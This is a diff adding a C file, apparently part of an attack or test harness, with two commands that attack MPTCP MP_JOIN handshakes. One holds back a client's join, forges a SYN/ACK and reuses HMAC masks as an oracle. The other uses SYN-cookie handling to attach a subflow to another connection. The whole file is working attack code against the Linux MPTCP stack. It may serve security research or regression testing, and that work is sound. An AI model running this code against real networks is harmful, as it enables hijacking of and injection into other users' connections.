@@ -1,0 +1,197 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * A join of the client's to one connection is held back, and what the client answers
+ * in it is used for a join to another
+ */
+#include <stdio.h>
+
+#include "attacker.h"
+
+/* The next MP_JOIN of this length that the client sends, which is not passed on */
+static uint8_t *held_join(uint8_t len, int64_t until, struct frame *frame,
+			  struct segment *segment)
+{
+	uint8_t *join;
+
+	while (pump(until, false, frame)) {
+		join = parse_segment(frame, segment) ?
+			       find_mptcp(segment, MP_JOIN) :
+			       NULL;
+		if (join && join[1] == len)
+			return join;
+	}
+	return NULL;
+}
+
+/* To the client, as if the server of its join had sent it */
+static void send_synack(int path, const struct segment *syn, uint64_t hmac,
+			uint32_t nonce)
+{
+	struct plan plan = {
+		.flags = TH_SYN | TH_ACK,
+		.from = syn->to,
+		.to = syn->from,
+		.seq = random32(),
+		.ack = syn->seq + 1,
+		.from_mac = links[path][SERVER].peer_mac,
+		.to_mac = links[path][CLIENT].peer_mac,
+		.options = { MPTCP_KIND, JOIN_SYNACK_LEN, MP_JOIN << 4 },
+		.options_len = JOIN_SYNACK_LEN,
+	};
+	struct frame frame;
+
+	put32(put64(plan.options + 4, hmac), nonce);
+	make_segment(&frame, &plan);
+	send_frame(&links[path][CLIENT], &frame);
+}
+
+/*
+ * A join of the client to connection learn=Y is held, and what the client
+ * answers is used for one to connection conn=X in its place, with the same
+ * addresses: what masks the fields of Y might mask those of X.
+ */
+bool cmd_oracle(void)
+{
+	int64_t until = now_ms() + 20 * patience_ms;
+	uint8_t hmac_x[SHA256_DIGEST_LENGTH], hmac_y[SHA256_DIGEST_LENGTH];
+	const struct connection *x, *y;
+	struct frame frame, syn_frame;
+	struct segment segment, syn;
+	struct attempt attempt;
+	enum answer answer;
+	uint64_t mask;
+	uint8_t *join;
+	int i;
+
+	hold_joins = true;
+	join = held_join(JOIN_SYN_LEN, until, &syn_frame, &syn);
+	if (!join) {
+		printf(" no-join");
+		return true;
+	}
+	/* Connection Y may be younger than the command */
+	x = arg_connection("conn");
+	y = arg_connection("learn");
+	if (!x || !y)
+		return false;
+
+	start_attempt(&attempt, x, y, 0);
+	held = attempt.from = syn.from;
+	attempt.nonces[CLIENT] = get32(join + 8);
+	attempt.token = get32(join + 4) ^ key_token(y->keys[SERVER]) ^
+			key_token(x->keys[SERVER]);
+	send_syn(&attempt);
+	answer = take_synack(&attempt);
+	printf(" syn=%s", answers[answer]);
+	if (answer != ANSWERED)
+		return true;
+
+	mask = attempt.synack ^ synack_hmac(x, &attempt);
+	send_synack(attempt.path, &syn, synack_hmac(y, &attempt) ^ mask,
+		    attempt.nonces[SERVER]);
+	join = held_join(JOIN_ACK_LEN, now_ms() + patience_ms, &frame,
+			 &segment);
+	printf(" client=%s", answers[join ? ANSWERED : SILENT]);
+	if (!join)
+		return true;
+
+	join_hmac(x->keys[CLIENT], x->keys[SERVER], attempt.nonces[CLIENT],
+		  attempt.nonces[SERVER], hmac_x);
+	join_hmac(y->keys[CLIENT], y->keys[SERVER], attempt.nonces[CLIENT],
+		  attempt.nonces[SERVER], hmac_y);
+	for (i = 0; i < ACK_HMAC_LEN; i++)
+		hmac_x[i] ^= hmac_y[i] ^ join[4 + i];
+	end_join(&attempt, x, hmac_x);
+	return true;
+}
+
+/* The SYN/ACK of a join that is held; it goes on to the client as well */
+static bool pass_synack(int path, int64_t until, uint32_t *seq, uint32_t *nonce)
+{
+	struct segment segment;
+	struct frame frame;
+	const uint8_t *join;
+
+	while (pump(until, false, &frame)) {
+		if (!parse_segment(&frame, &segment) ||
+		    !same_endpoint(&segment.to, &held))
+			continue;
+		join = find_mptcp(&segment, MP_JOIN);
+		if (!segment.tcp->syn || !join || join[1] != JOIN_SYNACK_LEN)
+			continue;
+		*seq = segment.seq;
+		*nonce = get32(join + 12);
+		pass_segment(path, SERVER, &frame, &segment);
+		return true;
+	}
+	return false;
+}
+
+/*
+ * With SYN cookies: a join of the client to connection learn=Y goes on up to its
+ * ACK, which is held. A SYN with the same ports and sequence number from from=ADDR
+ * leads to connection conn=X: the kernel keeps it where it has kept the client's.
+ * Then the ACK comes from the client's address, as it has answered, but for X.
+ */
+bool cmd_slot(void)
+{
+	int64_t until = now_ms() + 20 * patience_ms;
+	uint8_t hmac_x[SHA256_DIGEST_LENGTH], hmac_y[SHA256_DIGEST_LENGTH];
+	int i, path = (int)arg_number("path", "1") - 1;
+	uint32_t nonces[NR_SIDES], cookie;
+	const struct connection *x, *y;
+	struct frame frame, syn_frame;
+	struct segment segment, syn;
+	struct attempt attempt;
+	enum answer answer;
+	uint8_t *join;
+
+	hold_joins = true;
+	join = held_join(JOIN_SYN_LEN, until, &syn_frame, &syn);
+	if (!join) {
+		printf(" no-join");
+		return true;
+	}
+	/* Connection Y may be younger than the command */
+	x = arg_connection("conn");
+	y = arg_connection("learn");
+	if (!x || !y)
+		return false;
+
+	start_attempt(&attempt, x, y, 0);
+	held = syn.from;
+	nonces[CLIENT] = get32(join + 8);
+	attempt.from.port = syn.from.port;
+	attempt.seq = syn.seq;
+	attempt.nonces[CLIENT] = nonces[CLIENT];
+	attempt.token = get32(join + 4) ^ key_token(y->keys[SERVER]) ^
+			key_token(x->keys[SERVER]);
+	pass_segment(path, CLIENT, &syn_frame, &syn);
+	if (!pass_synack(path, now_ms() + 4 * patience_ms, &cookie,
+			 &nonces[SERVER])) {
+		printf(" no-answer");
+		return true;
+	}
+	join = held_join(JOIN_ACK_LEN, now_ms() + 4 * patience_ms, &frame,
+			 &segment);
+	if (!join) {
+		printf(" no-ack");
+		return true;
+	}
+
+	send_syn(&attempt);
+	answer = take_synack(&attempt);
+	printf(" syn=%s", answers[answer]);
+	if (answer != ANSWERED)
+		return true;
+	join_hmac(x->keys[CLIENT], x->keys[SERVER], attempt.nonces[CLIENT],
+		  attempt.nonces[SERVER], hmac_x);
+	join_hmac(y->keys[CLIENT], y->keys[SERVER], nonces[CLIENT],
+		  nonces[SERVER], hmac_y);
+	for (i = 0; i < ACK_HMAC_LEN; i++)
+		hmac_x[i] ^= hmac_y[i] ^ join[4 + i];
+	attempt.from = syn.from;
+	attempt.peer_seq = cookie + 1;
+	end_join(&attempt, x, hmac_x);
+	return true;
+}
